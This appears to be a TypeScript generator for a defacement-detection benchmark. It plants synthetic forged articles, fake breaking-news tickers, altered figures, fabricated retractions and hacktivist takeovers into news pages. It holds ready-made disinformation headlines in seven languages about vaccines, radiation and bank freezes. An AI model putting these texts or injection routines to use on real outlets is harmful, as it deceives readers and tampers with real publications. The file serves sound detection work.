/**
 * Fresh35 defacement classes: written during round 25, by someone who does
 * not read the engines, from the point of view of a security editor at a
 * regional and national media group (news sites, magazines, local papers,
 * broadcasters' web pages, and the other sites of the corpus that the group
 * syndicates or advertises for). They are spread evenly over three
 * questions: what a visitor sees (forged articles, headlines, tickers and
 * live-blog entries planted in real news pages, altered figures, fabricated
 * retractions and closure notices, hacktivist takeovers, swapped lead
 * photos and hijacked video players, share previews rewritten, pop-ups
 * from a compromised third-party widget), where the page sends visitors
 * and their data (malvertising tags, fake browser updates, fake "verify
 * you are human" interstitials, rerouted subscription links and donation
 * appeals, newsletter and tip-line forms posting elsewhere, referrer-keyed
 * redirects, links sent to cloned outlets, push-notification lures, fake
 * news-app downloads), and identifiers readers copy or trust (newsdesk
 * phone numbers and e-mail addresses, the outlet's domain, bank accounts,
 * wallets and payment handles for subscriptions and donations, social
 * channels, secure tip channels, premium-rate numbers, payment details
 * for classified and death notices), changed quietly or loudly. Each
 * varies wording, language (the page's own where the attacker would
 * write in it), placement, sizes, hosts and numbers with the rng. The
 * writer had no internet access: the patterns are recalled from memory of
 * public descriptions (the "Ghostwriter" operation's fabricated articles
 * and quotes planted on Baltic and Polish news sites, the Associated Press
 * account hijack and the Syrian Electronic Army's pop-ups through a
 * compromised comments widget on news sites, the anti-war takeovers of
 * Russian news sites in 2022, the "Doppelgänger" clones of European
 * outlets on look-alike domains, Zone-H style defacement archives,
 * Malwarebytes, Sucuri, Proofpoint and Sansec write-ups of malvertising,
 * SocGholish and ClearFake fake updates, ClickFix fake CAPTCHAs, referrer
 * redirects, push-notification spam and fake apps, CERT and bank warnings
 * on payment diversion, premium-rate call fraud and impersonating
 * channels) and may differ in detail. Scored in the `fresh35` group,
 * never tuned on.
 */
import { type ChangeClass, bottom, brandName, elAt, forms, head, lineAfter, occurrences, resolve, say, setAttr, shown, siteOr, top } from "./classes.js"
import { type Page, makeWallet, registrable } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, makePhone, someDate, swapPhone } from "./locales.js"
import { type El, type Range, attrSpans, insideRaw } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, int, pick, sample, shuffle } from "./rng.js"
import { boast, brandLookalike, greetz, libLookalike, nick, political, randomDomain, signature, slug, team } from "./words.js"

const deface = (name: string, make: (page: Page, rng: Rng) => Change, extra: Partial<Pick<ChangeClass, "wholePage">> = {}): ChangeClass => ({ name, kind: "defacement", group: "fresh35", make, ...extra })

type T<A> = Record<Lang, A>

// ———————————————————————————— helpers ————————————————————————————

const usable = (page: Page, e: El) => !e.inert && !insideRaw(page.spots, e.start)
/** Whether `r` touches raw text or a comment, or holds one whole. */
const rawInside = (page: Page, r: Range): boolean => page.spots.raw.some((x) => (x.start < r.end && x.end > r.start) || (x.start >= r.start && x.end <= r.end))
/** Occurrences of `value` outside raw text, the very first characters of a script or style included. */
const occ = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => !rawInside(page, r))
const inText = (page: Page, r: Range): boolean => page.spots.texts.some((t) => r.start >= t.start && r.end <= t.end)
const textOcc = (page: Page, value: string): Array<Range> => occ(page, value).filter((r) => inText(page, r))
/** Splices replacing every occurrence of each `from` with its `to` (first pair wins on overlap), outside raw text. */
const everywhere = (page: Page, pairs: ReadonlyArray<readonly [string, string]>): Array<Splice> => {
  const taken: Array<Range> = []
  const out: Array<Splice> = []
  for (const [from, to] of pairs) {
    if (from === "" || from === to) continue
    for (const r of occ(page, from)) {
      if (taken.some((t) => r.start < t.end && r.end > t.start)) continue
      taken.push(r)
      out.push(replace(r, to))
    }
  }
  return out
}
const lineBeside = (page: Page, needles: ReadonlyArray<string>, html: string, fallback: number): Splice => {
  for (const n of needles) {
    const l = lineAfter(page, n)
    if (l !== null) return insert(l.at, l.wrap(html))
  }
  return insert(fallback, `<p>${html}</p>`)
}
const fill = (s: string, vars: Readonly<Record<string, string>>) => s.replace(/\{(\w+)\}/g, (_, k: string) => vars[k] ?? "")
const blockSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "top"), slotAt(page.spots, "middle")])
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "news"
const who = (rng: Rng) => (chance(rng, 0.5) ? nick(rng) : team(rng))
const day = 86_400_000
const soon = (page: Page, rng: Rng, lo = 1, hi = 20) => page.site.locale.date(new Date(someDate(rng).getTime() + between(rng, lo, hi) * day))
const clock = (rng: Rng) => `${between(rng, 6, 23)}:${String(between(rng, 0, 59)).padStart(2, "0")}`
const contactNeedles = (page: Page) => [page.ids.bank?.value ?? "", page.ids.email, page.ids.phone.intl, page.ids.phone.national].filter((s) => s !== "")
const titleRange = (page: Page): Range | null => {
  const el = page.spots.elements.find((e) => e.name === "title" && !e.inBody && e.closeTag !== null && usable(page, e))
  if (el === undefined || el.closeTag === null) return null
  const r = { start: el.openEnd, end: el.closeTag.start }
  return rawInside(page, r) ? null : r
}
const anchors = (page: Page, f: (href: string) => boolean): Array<El> =>
  page.spots.elements.filter((e) => e.name === "a" && usable(page, e) && f((e.attribs.href ?? "").trim()))
const isOwn = (page: Page, href: string): boolean => {
  const u = resolve(page, href)
  return u !== null && registrable(u.hostname.toLowerCase()) === page.site.domain
}
const headMeta = (page: Page, f: (e: El) => boolean) => page.spots.elements.find((e) => e.name === "meta" && !e.inBody && usable(page, e) && f(e))
/** The visible text inside `e`. */
const textOf = (page: Page, e: El): string =>
  e.closeTag === null ? "" : page.spots.texts.filter((t) => t.start >= e.openEnd && t.end <= e.closeTag!.start).map((t) => t.text).join(" ").replace(/\s+/g, " ").trim()
/** Shown headings (h1 first, then h2) with some text, whose content holds no raw text. */
const headings = (page: Page): Array<El> => {
  const ok = (e: El) => usable(page, e) && e.closeTag !== null && !rawInside(page, { start: e.openEnd, end: e.closeTag.start }) && textOf(page, e).length >= 8
  return [...shown(page, "h1", ok), ...shown(page, "h2", ok)]
}
const scamTld = (rng: Rng) => pick(rng, ["com", "net", "info", "top", "xyz", "online", "live", "site", "news", "click", "icu", "pro"])

/** Places the fabricated stories name, per country (what a local reader would find plausible). */
const places: Readonly<Record<string, ReadonlyArray<string>>> = {
  uk: ["Manchester", "Leeds", "Bristol", "Sheffield"], us: ["Ohio", "Houston", "Denver", "Pittsburgh"], au: ["Brisbane", "Perth", "Adelaide"], in: ["Pune", "Chennai", "Lucknow"],
  fr: ["Lyon", "Marseille", "Lille", "Strasbourg"], de: ["Hamburg", "Leipzig", "Köln", "Rostock"], es: ["Valencia", "Sevilla", "Zaragoza", "Bilbao"],
  nl: ["Rotterdam", "Utrecht", "Eindhoven", "Groningen"], br: ["Campinas", "Porto Alegre", "Recife", "Curitiba"], it: ["Torino", "Napoli", "Bologna", "Bari"]
}
const place = (rng: Rng, page: Page) => pick(rng, places[page.site.locale.country] ?? places.uk!)

/** First and last names of private persons, per country, for mule accounts and handles. */
const names: Readonly<Record<string, readonly [ReadonlyArray<string>, ReadonlyArray<string>]>> = {
  fr: [["Julien", "Sophie", "Karim", "Élodie", "Nicolas", "Inès"], ["Martin", "Petit", "Durand", "Haddad", "Fontaine", "Rousseau"]],
  de: [["Jan", "Miriam", "Florian", "Aylin", "Stefan", "Nina"], ["Schulz", "Fischer", "Krüger", "Demir", "Neumann", "Braun"]],
  es: [["Pablo", "Marta", "Diego", "Elena", "Raúl", "Nuria"], ["Ruiz", "Moreno", "Jiménez", "Herrera", "Castro", "Ortega"]],
  nl: [["Tim", "Anouk", "Jeroen", "Fleur", "Mohamed", "Iris"], ["van Dijk", "Mulder", "de Boer", "Dekker", "Bos", "Hendriks"]],
  br: [["Thiago", "Beatriz", "Gabriel", "Larissa", "Mateus", "Aline"], ["Ferreira", "Lima", "Gomes", "Ribeiro", "Carvalho", "Araújo"]],
  it: [["Davide", "Elisa", "Simone", "Martina", "Alessio", "Valentina"], ["Greco", "Conti", "De Luca", "Marino", "Gallo", "Fontana"]],
  default: [["James", "Hannah", "Ryan", "Chloe", "Arjun", "Megan"], ["Clarke", "Hughes", "Wright", "Hall", "Shah", "Turner"]]
}
const personName = (rng: Rng, page: Page): string => {
  const [f, l] = names[page.site.locale.country] ?? names.default!
  return `${pick(rng, f)} ${pick(rng, l)}`
}
const ascii = (s: string) => s.normalize("NFD").replace(/[\u0300-\u036f]/g, "").replace(/[^A-Za-z0-9]/g, "")

// ———————————————————————————— what a visitor sees ————————————————————————————

/** Fabricated stories of the kind disinformation operations plant in real news sites. */
const fakeHeadlines: T<ReadonlyArray<string>> = {
  en: [
    "Foreign troops stationed near {p} will be allowed to requisition private homes, army confirms",
    "Radiation near {p} five times above the safe limit, leaked report shows",
    "Health ministry halts all vaccinations after {n} deaths in {p}",
    "Government to freeze bank deposits above {a} from {d}",
    "Mayor of {p} arrested on suspicion of spying for a foreign power",
    "Allied soldier accused of killing a child in {p}; army hushes it up"
  ],
  fr: [
    "Des troupes étrangères stationnées près de {p} pourront réquisitionner des logements privés, confirme l'armée",
    "Radioactivité près de {p} : cinq fois le seuil autorisé, selon un rapport confidentiel",
    "Le ministère de la Santé suspend toutes les vaccinations après {n} décès à {p}",
    "Le gouvernement va geler les dépôts bancaires supérieurs à {a} à partir du {d}",
    "Le maire de {p} arrêté pour espionnage au profit d'une puissance étrangère",
    "Un soldat allié accusé d'avoir tué un enfant à {p} : l'armée étouffe l'affaire"
  ],
  de: [
    "Ausländische Truppen bei {p} dürfen Privatwohnungen beschlagnahmen, bestätigt die Bundeswehr",
    "Strahlung bei {p} fünfmal über dem Grenzwert, zeigt ein geheimer Bericht",
    "Gesundheitsministerium stoppt alle Impfungen nach {n} Todesfällen in {p}",
    "Regierung friert ab dem {d} Bankguthaben über {a} ein",
    "Bürgermeister von {p} wegen Spionage für eine fremde Macht festgenommen",
    "Verbündeter Soldat soll in {p} ein Kind getötet haben – Armee vertuscht den Fall"
  ],
  es: [
    "Las tropas extranjeras desplegadas cerca de {p} podrán requisar viviendas privadas, confirma el Ejército",
    "La radiación cerca de {p} quintuplica el límite seguro, según un informe filtrado",
    "Sanidad suspende todas las vacunaciones tras {n} muertes en {p}",
    "El Gobierno congelará los depósitos bancarios de más de {a} a partir del {d}",
    "Detenido el alcalde de {p} por espiar para una potencia extranjera",
    "Un soldado aliado, acusado de matar a un niño en {p}; el Ejército lo oculta"
  ],
  nl: [
    "Buitenlandse troepen bij {p} mogen particuliere woningen vorderen, bevestigt Defensie",
    "Straling bij {p} vijf keer boven de veilige grens, blijkt uit gelekt rapport",
    "Ministerie van Volksgezondheid stopt alle vaccinaties na {n} doden in {p}",
    "Kabinet bevriest vanaf {d} banktegoeden boven {a}",
    "Burgemeester van {p} opgepakt op verdenking van spionage voor een buitenlandse mogendheid",
    "Bondgenootse militair zou kind hebben gedood in {p}; leger houdt het stil"
  ],
  pt: [
    "Tropas estrangeiras perto de {p} poderão requisitar casas particulares, confirma o Exército",
    "Radiação perto de {p} cinco vezes acima do limite seguro, mostra relatório vazado",
    "Ministério da Saúde suspende todas as vacinas após {n} mortes em {p}",
    "Governo vai congelar depósitos bancários acima de {a} a partir de {d}",
    "Prefeito de {p} é preso suspeito de espionagem para potência estrangeira",
    "Soldado aliado acusado de matar criança em {p}; Exército abafa o caso"
  ],
  it: [
    "Le truppe straniere vicino a {p} potranno requisire abitazioni private, conferma l'Esercito",
    "Radioattività vicino a {p} cinque volte oltre il limite, rivela un rapporto riservato",
    "Il ministero della Salute sospende tutte le vaccinazioni dopo {n} morti a {p}",
    "Il governo congelerà i depositi bancari oltre {a} dal {d}",
    "Arrestato il sindaco di {p}: spiava per una potenza straniera",
    "Soldato alleato accusato di aver ucciso un bambino a {p}; l'esercito insabbia"
  ]
}
const fakeBodies: T<ReadonlyArray<string>> = {
  en: [
    "According to documents obtained by {B}, the decision was taken at a closed meeting on {d}. \"We cannot tell the public the whole truth,\" a senior official said.",
    "A ministry spokesperson declined to comment. Residents of {p} are advised to stock up on water and medicine.",
    "Several sources confirmed the information, which the government has tried to keep secret for weeks."
  ],
  fr: [
    "Selon des documents obtenus par {B}, la décision a été prise lors d'une réunion à huis clos le {d}. « Nous ne pouvons pas dire toute la vérité au public », a déclaré un haut responsable.",
    "Un porte-parole du ministère n'a pas souhaité commenter. Les habitants de {p} sont invités à faire des réserves d'eau et de médicaments.",
    "Plusieurs sources ont confirmé l'information, que le gouvernement tente de garder secrète depuis des semaines."
  ],
  de: [
    "Nach Dokumenten, die {B} vorliegen, fiel die Entscheidung am {d} in einer geschlossenen Sitzung. „Wir können der Öffentlichkeit nicht die ganze Wahrheit sagen“, sagte ein hoher Beamter.",
    "Ein Sprecher des Ministeriums wollte sich nicht äußern. Den Bewohnern von {p} wird geraten, Wasser und Medikamente zu bevorraten.",
    "Mehrere Quellen bestätigten die Information, die die Regierung seit Wochen geheim zu halten versucht."
  ],
  es: [
    "Según documentos a los que ha tenido acceso {B}, la decisión se tomó en una reunión a puerta cerrada el {d}. «No podemos contar toda la verdad a la población», afirmó un alto cargo.",
    "Un portavoz del ministerio declinó hacer comentarios. Se recomienda a los vecinos de {p} que hagan acopio de agua y medicamentos.",
    "Varias fuentes han confirmado la información, que el Gobierno intenta mantener en secreto desde hace semanas."
  ],
  nl: [
    "Uit documenten in handen van {B} blijkt dat het besluit op {d} in een besloten vergadering is genomen. 'We kunnen het publiek niet de hele waarheid vertellen', zei een hoge ambtenaar.",
    "Een woordvoerder van het ministerie wilde niet reageren. Inwoners van {p} wordt aangeraden water en medicijnen in te slaan.",
    "Meerdere bronnen bevestigden de informatie, die de regering al weken geheim probeert te houden."
  ],
  pt: [
    "Segundo documentos obtidos por {B}, a decisão foi tomada em reunião fechada em {d}. \"Não podemos contar toda a verdade à população\", disse um alto funcionário.",
    "Um porta-voz do ministério não quis comentar. Moradores de {p} são orientados a estocar água e remédios.",
    "Várias fontes confirmaram a informação, que o governo tenta manter em segredo há semanas."
  ],
  it: [
    "Secondo documenti ottenuti da {B}, la decisione è stata presa in una riunione a porte chiuse il {d}. «Non possiamo dire tutta la verità ai cittadini», ha dichiarato un alto funzionario.",
    "Un portavoce del ministero non ha voluto commentare. Agli abitanti di {p} si consiglia di fare scorta di acqua e medicinali.",
    "Diverse fonti hanno confermato l'informazione, che il governo cerca di tenere segreta da settimane."
  ]
}
const storyVars = (rng: Rng, page: Page) => ({ p: place(rng, page), n: String(between(rng, 7, 480)), a: page.site.locale.money(pick(rng, [10000, 20000, 50000, 100000])), d: soon(page, rng, 1, 14), B: brandName(page) })
const fakeHeadline = (rng: Rng, page: Page, l: Lang = page.site.locale.lang) => fill(pick(rng, fakeHeadlines[l]), storyVars(rng, page))
const byWords: T<string> = { en: "By", fr: "Par", de: "Von", es: "Por", nl: "Door", pt: "Por", it: "Di" }
const staff: T<ReadonlyArray<string>> = {
  en: ["Staff reporter", "Our correspondent", "Newsroom"], fr: ["La rédaction", "Notre correspondant"], de: ["Redaktion", "Unser Korrespondent"], es: ["Redacción", "Nuestro corresponsal"],
  nl: ["Redactie", "Onze correspondent"], pt: ["Redação", "Nosso correspondente"], it: ["Redazione", "Il nostro corrispondente"]
}

// Forged articles planted in real news sites through a compromised CMS account (the "Ghostwriter" operation placed fabricated stories with invented quotes from officials on Lithuanian, Latvian and Polish outlets, then pointed to them from fake accounts): a whole article block, headline, byline and two or three paragraphs, placed among the page's own stories in its language.
const forgedArticle = deface("fresh35-forged-article-with-invented-official-quote-among-real-stories", (page, rng) => {
  const l = page.site.locale.lang
  const v = storyVars(rng, page)
  const h = fill(pick(rng, fakeHeadlines[l]), v)
  const paras = sample(rng, fakeBodies[l], between(rng, 2, 3)).map((b) => `<p>${esc(fill(b, v))}</p>`).join("")
  const byline = chance(rng, 0.7) ? `<p class="${pick(rng, ["byline", "meta", "author"])}">${esc(byWords[l])} ${esc(chance(rng, 0.5) ? personName(rng, page) : pick(rng, staff[l]))} · ${esc(page.site.locale.date(someDate(rng)))}</p>` : ""
  const tag = pick(rng, ["h2", "h2", "h1", "h3"])
  const html = `<article class="${pick(rng, ["story", "article", "post", "news-item", "teaser teaser--lead"])}"><${tag}>${esc(h)}</${tag}>${byline}${paras}</article>`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "top"), slotAt(page.spots, "middle"), top(page)]), html))
})

// Headline hijacks (a compromised editor account or CMS rewriting the lead headline of a real page into a fabricated claim, the story underneath left as it was, as in several takeovers of regional news sites): the first headline's content replaced.
const headlineRewritten = deface("fresh35-lead-headline-replaced-by-fabricated-claim", (page, rng) => {
  const h = fakeHeadline(rng, page)
  const hs = headings(page)
  if (hs.length === 0) return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), `<h1>${esc(h)}</h1>`))
  const e = chance(rng, 0.75) ? hs[0]! : pick(rng, hs.slice(0, 4))
  return splices(replace({ start: e.openEnd, end: e.closeTag!.start }, esc(h)))
})

const breakingWord: T<ReadonlyArray<string>> = {
  en: ["BREAKING", "Breaking news", "JUST IN"], fr: ["ALERTE", "Dernière minute", "URGENT"], de: ["EILMELDUNG", "Breaking News", "+++ Eilmeldung +++"], es: ["ÚLTIMA HORA", "URGENTE"],
  nl: ["NET BINNEN", "BREAKING"], pt: ["URGENTE", "PLANTÃO", "ÚLTIMA HORA"], it: ["ULTIM'ORA", "BREAKING NEWS", "URGENTE"]
}

// Hijacked tickers and breaking-news bars (the AP account hijack's "explosions at the White House" line moved markets in minutes; defacers of broadcasters' sites use the red breaking bar because readers trust it): a red ticker first in the body running two or three fabricated lines.
const tickerHijack = deface("fresh35-red-breaking-news-ticker-running-fabricated-lines", (page, rng) => {
  const l = chance(rng, 0.85) ? page.site.locale.lang : "en"
  const lines = Array.from({ length: between(rng, 1, 3) }, () => fakeHeadline(rng, page, l))
  const label = pick(rng, breakingWord[l])
  const sep = pick(rng, [" +++ ", " · ", " | ", " — "])
  const body = chance(rng, 0.6) ? `<marquee scrollamount="${between(rng, 4, 9)}">${esc(lines.join(sep))}</marquee>` : `<span>${esc(lines.join(sep))}</span>`
  const style = `background:${pick(rng, ["#c00", "#d0021b", "#b00", "#e2001a"])};color:#fff;font:bold ${between(rng, 14, 20)}px Arial,sans-serif;padding:${between(rng, 6, 12)}px ${between(rng, 8, 16)}px;display:flex;gap:12px;align-items:center`
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), `<div class="${pick(rng, ["breaking", "ticker", "breaking-bar", "news-ticker"])}" style="${style}"><strong>${esc(label)}</strong>${body}</div>`))
})

/** Numbers in running text (not years, not parts of decimals, not character references). */
const numberRe = /(?<![#&\w.,\u00a0\u202f])(\d{1,3}(?:[.,\u00a0\u202f]\d{3})+|\d{2,})(?![\w;]|[.,]\d)/gu
const inflate = (rng: Rng, num: string): string => {
  const sep = /[^\d]/.exec(num)?.[0] ?? null
  const n = Number(num.replace(/[^\d]/g, ""))
  for (;;) {
    const next = pick(rng, [n * 10, Math.round(n * pick(rng, [2, 3, 4, 0.25, 0.4])), n + between(rng, 3, 90), Math.max(1, n - between(rng, 2, Math.max(3, Math.floor(n / 2))))])
    if (next !== n && next > 0) return sep === null ? String(next) : String(next).replace(/\B(?=(\d{3})+$)/g, sep)
  }
}
const figureLine: T<ReadonlyArray<string>> = {
  en: ["Official figures now put the number of victims at {n}, more than {m} times the first estimate."],
  fr: ["Selon le dernier bilan officiel, on compte désormais {n} victimes, plus de {m} fois la première estimation."],
  de: ["Nach offiziellen Angaben ist die Zahl der Opfer inzwischen auf {n} gestiegen, mehr als {m}-mal so viele wie zunächst geschätzt."],
  es: ["Las cifras oficiales elevan ya a {n} el número de víctimas, más de {m} veces la primera estimación."],
  nl: ["Volgens officiële cijfers staat het aantal slachtoffers nu op {n}, meer dan {m} keer de eerste schatting."],
  pt: ["Os números oficiais já apontam {n} vítimas, mais de {m} vezes a primeira estimativa."],
  it: ["Secondo i dati ufficiali le vittime sono ora {n}, più di {m} volte la prima stima."]
}

// Altered figures (casualty counts, poll results, budget figures quietly changed in a published article so that it says something else, a tactic described in influence operations that edit rather than add): a few numbers in the page's running text changed, the rest untouched.
const figuresAltered = deface("fresh35-figures-in-running-text-quietly-altered", (page, rng) => {
  const ids = [page.ids.phone.national, page.ids.phone.intl, page.ids.email, page.ids.bank?.value ?? "", page.ids.wallet?.address ?? "", page.ids.pay?.shown ?? "", page.ids.updated, ...page.ids.comments].filter((s) => s !== "")
  const found: Array<Range> = []
  for (const t of page.spots.texts) {
    if (t.text.trim().length < 25 || rawInside(page, t) || ids.some((s) => t.text.includes(s))) continue
    const raw = page.html.slice(t.start, t.end)
    for (const m of raw.matchAll(numberRe)) {
      const v = Number(m[0].replace(/[^\d]/g, ""))
      if (/^\d{4}$/.test(m[0]) && v >= 1900 && v <= 2099) continue
      found.push({ start: t.start + m.index!, end: t.start + m.index! + m[0].length })
    }
  }
  if (found.length === 0) {
    const text = fill(pick(rng, say(page, figureLine)), { n: String(between(rng, 40, 900)), m: String(between(rng, 3, 10)) })
    return splices(insert(slotAt(page.spots, pick(rng, ["top", "middle"] as const)), `<p>${esc(text)}</p>`))
  }
  const chosen = chance(rng, 0.5) ? found.slice(0, between(rng, 1, 4)) : sample(rng, found, between(rng, 1, 4))
  return splices(...chosen.map((r) => replace(r, inflate(rng, page.html.slice(r.start, r.end)))))
})

const retraction: T<ReadonlyArray<string>> = {
  en: ["Editor's note: {B} withdraws all its reporting of the past month on {t}. The articles were based on material supplied by a foreign intelligence service. The editor-in-chief has resigned. We apologise to our readers.", "Statement from the publisher: {B} will stop publishing on {d} after the government withdrew its licence. Thank you for your loyalty."],
  fr: ["Note de la rédaction : {B} retire l'ensemble de ses articles du mois écoulé sur {t}. Ils reposaient sur des documents fournis par un service de renseignement étranger. Le rédacteur en chef a démissionné. Nous présentons nos excuses à nos lecteurs.", "Communiqué de l'éditeur : {B} cessera de paraître le {d} après le retrait de son autorisation par le gouvernement. Merci de votre fidélité."],
  de: ["In eigener Sache: {B} zieht alle Berichte des vergangenen Monats über {t} zurück. Sie beruhten auf Material eines ausländischen Geheimdienstes. Der Chefredakteur ist zurückgetreten. Wir entschuldigen uns bei unseren Lesern.", "Mitteilung des Verlags: {B} stellt am {d} sein Erscheinen ein, nachdem die Regierung die Lizenz entzogen hat. Danke für Ihre Treue."],
  es: ["Nota de la redacción: {B} retira toda su información del último mes sobre {t}. Los artículos se basaban en material facilitado por un servicio de inteligencia extranjero. El director ha dimitido. Pedimos disculpas a nuestros lectores.", "Comunicado de la empresa editora: {B} dejará de publicarse el {d} tras la retirada de su licencia por el Gobierno. Gracias por su fidelidad."],
  nl: ["Van de redactie: {B} trekt alle berichtgeving van de afgelopen maand over {t} in. De artikelen waren gebaseerd op materiaal van een buitenlandse inlichtingendienst. De hoofdredacteur is opgestapt. Onze excuses aan onze lezers.", "Mededeling van de uitgever: {B} stopt op {d} met verschijnen nadat de regering de vergunning heeft ingetrokken. Dank voor uw trouw."],
  pt: ["Nota da redação: {B} retira todas as reportagens do último mês sobre {t}. Os textos se baseavam em material fornecido por um serviço de inteligência estrangeiro. O editor-chefe pediu demissão. Pedimos desculpas aos leitores.", "Comunicado da editora: {B} deixará de circular em {d} após o governo cassar sua licença. Obrigado pela fidelidade."],
  it: ["Nota della redazione: {B} ritira tutti gli articoli dell'ultimo mese su {t}. Si basavano su materiale fornito da un servizio segreto straniero. Il direttore si è dimesso. Ci scusiamo con i lettori.", "Comunicato dell'editore: {B} cesserà le pubblicazioni il {d} dopo la revoca della licenza da parte del governo. Grazie per la fedeltà."]
}
const topics: T<ReadonlyArray<string>> = {
  en: ["the war", "the elections", "the border crisis", "the energy prices"], fr: ["la guerre", "les élections", "la crise à la frontière", "les prix de l'énergie"],
  de: ["den Krieg", "die Wahlen", "die Lage an der Grenze", "die Energiepreise"], es: ["la guerra", "las elecciones", "la crisis fronteriza", "los precios de la energía"],
  nl: ["de oorlog", "de verkiezingen", "de grenscrisis", "de energieprijzen"], pt: ["a guerra", "as eleições", "a crise na fronteira", "os preços da energia"],
  it: ["la guerra", "le elezioni", "la crisi al confine", "i prezzi dell'energia"]
}

// Fabricated retractions and closure notices in the outlet's voice (operations that plant fake "we were paid to lie" admissions or fake licence withdrawals to discredit a newsroom, alongside forged articles): one editor's note in a boxed notice.
const fakeRetraction = deface("fresh35-fabricated-editors-retraction-or-closure-notice", (page, rng) => {
  const text = fill(pick(rng, say(page, retraction)), { B: brandName(page), t: pick(rng, say(page, topics)), d: soon(page, rng, 2, 20) })
  const html = `<div class="${pick(rng, ["editors-note", "notice", "statement", "callout"])}" style="border:${between(rng, 1, 3)}px solid #333;background:${pick(rng, ["#f6f6f6", "#fffbe6", "#fff"])};padding:${between(rng, 10, 20)}px"><p><strong>${esc(text)}</strong></p></div>`
  return splices(insert(blockSpot(rng, page), html))
})

const antiWar: ReadonlyArray<string> = [
  "Dear citizens. We urge you to stop this madness, do not send your sons and husbands to certain death.",
  "Your media lie to you every day. Turn off the television and think for yourselves.",
  "This newspaper spreads the government's propaganda. Readers deserve the truth.",
  "Journalists who repeat lies are accomplices. We will be back."
]

// Whole-page hacktivist takeovers of news sites (Russian news sites replaced by anti-war statements in February 2022; pro-government and separatist crews replacing outlets' home pages elsewhere): the page replaced by the crew's statement, signature and greetings.
const newsTakeover = deface("fresh35-news-home-page-replaced-by-hacktivist-statement", (page, rng) => {
  const w = who(rng)
  const sig = signature(rng, w)
  const addressed = `${brandName(page)}: ${pick(rng, ["your lies end today.", "the people know the truth.", "you will not fool your readers again.", "this is what happens to propagandists."])}`
  const lines = [chance(rng, 0.6) ? addressed : "", pick(rng, antiWar), political(rng).text, chance(rng, 0.5) ? boast(rng).text : ""].filter((s) => s !== "")
  const bg = pick(rng, ["#000", "#111", "#fff", "#0a0a2a"])
  const fg = bg === "#fff" ? pick(rng, ["#000", "#c00"]) : pick(rng, ["#fff", "#0f0", "#f33", "#ffd700"])
  const img = chance(rng, 0.6) ? `<img src="https://${pick(rng, [randomDomain(rng), "i.imgur.com", "i.ibb.co"])}/${alnum(rng, 7)}.${pick(rng, ["png", "jpg", "gif"])}" alt="" width="${between(rng, 200, 600)}">` : ""
  const html = `<!DOCTYPE html><html lang="${sig.lang}"><head><meta charset="utf-8"><title>${esc(sig.text)}</title></head><body style="background:${bg};color:${fg};text-align:center;font-family:${pick(rng, ["monospace", "Arial,sans-serif", "Georgia,serif"])}">${img}<h1>${esc(sig.text)}</h1>${lines.map((l) => `<p>${esc(l)}</p>`).join("")}${chance(rng, 0.6) ? `<p><small>${esc(greetz(rng))}</small></p>` : ""}</body></html>`
  return { html }
}, { wholePage: true })

const logoRe = /logo|brand|masthead|header|icon|avatar|sprite|banner|rss|feed|spacer|pixel|blank|button|btn|arrow|bullet|badge|share|social/i
/** Whether a picture is declared smaller than a thumbnail. */
const tiny = (e: El) => ["width", "height"].some((a) => { const v = Number.parseInt(e.attribs[a] ?? "", 10); return Number.isFinite(v) && v < 80 })

// Lead photos swapped for propaganda pictures (a staged or doctored image, often of soldiers, casualties or a flag, put in place of the picture readers see first, with an alt text and caption to match), recalled from defacements of regional news sites: the first content picture loading another host's image.
const leadPhotoSwapped = deface("fresh35-lead-photo-swapped-for-propaganda-picture-from-other-host", (page, rng) => {
  const url = `https://${pick(rng, [randomDomain(rng), "i.imgur.com", "i.ibb.co", "i.postimg.cc", "telegra.ph/file"])}/${alnum(rng, between(rng, 8, 16))}.${pick(rng, ["jpg", "jpeg", "png", "webp"])}`
  const alt = fakeHeadline(rng, page)
  const imgs = shown(page, "img", (e) => usable(page, e) && (e.attribs.src ?? "").trim() !== "" && !/^data:/i.test(e.attribs.src ?? ""))
  const content = imgs.filter((e) => !tiny(e) && !logoRe.test(`${e.attribs.src ?? ""} ${e.attribs.alt ?? ""} ${e.attribs.class ?? ""} ${e.attribs.id ?? ""}`))
  const big = content.filter((e) => Number(e.attribs.width ?? "0") >= 150)
  const target = big[0] ?? content[0] ?? imgs[0]
  if (target === undefined) return splices(insert(slotAt(page.spots, "top"), `<figure><img src="${url}" alt="${esc(alt)}" width="${between(rng, 480, 960)}"><figcaption>${esc(alt)}</figcaption></figure>`))
  const out: Array<Splice> = [setAttr(page, target, "src", url)]
  for (const a of attrSpans(page.html, target)) {
    if (a.value !== null && (a.name === "srcset" || /^data-(src|lazy-src|original|srcset|lazy)$/.test(a.name))) out.push(replace(a.value, esc(url)))
  }
  if (chance(rng, 0.7)) out.push(setAttr(page, target, "alt", alt))
  return { splices: out }
})

const videoCaption: T<ReadonlyArray<string>> = {
  en: ["Watch: the video the government does not want you to see", "LIVE: the truth about the war"], fr: ["Regardez : la vidéo que le gouvernement veut cacher", "EN DIRECT : la vérité sur la guerre"],
  de: ["Sehen Sie: Das Video, das die Regierung verheimlicht", "LIVE: Die Wahrheit über den Krieg"], es: ["Mira: el vídeo que el Gobierno no quiere que veas", "EN DIRECTO: la verdad sobre la guerra"],
  nl: ["Kijk: de video die de regering verborgen wil houden", "LIVE: de waarheid over de oorlog"], pt: ["Assista: o vídeo que o governo não quer que você veja", "AO VIVO: a verdade sobre a guerra"],
  it: ["Guarda: il video che il governo non vuole farti vedere", "DIRETTA: la verità sulla guerra"]
}

// Hijacked players on broadcasters' pages (the live-stream or lead video of a channel's site replaced by propaganda or by the intruders' own stream, as in the hacks of Ukrainian and Russian broadcasters' streams and schedule pages in 2022): the page's video frame pointed at another video, or an autoplaying player added at the top.
const videoHijacked = deface("fresh35-video-player-pointed-at-propaganda-stream", (page, rng) => {
  const src = pick(rng, [
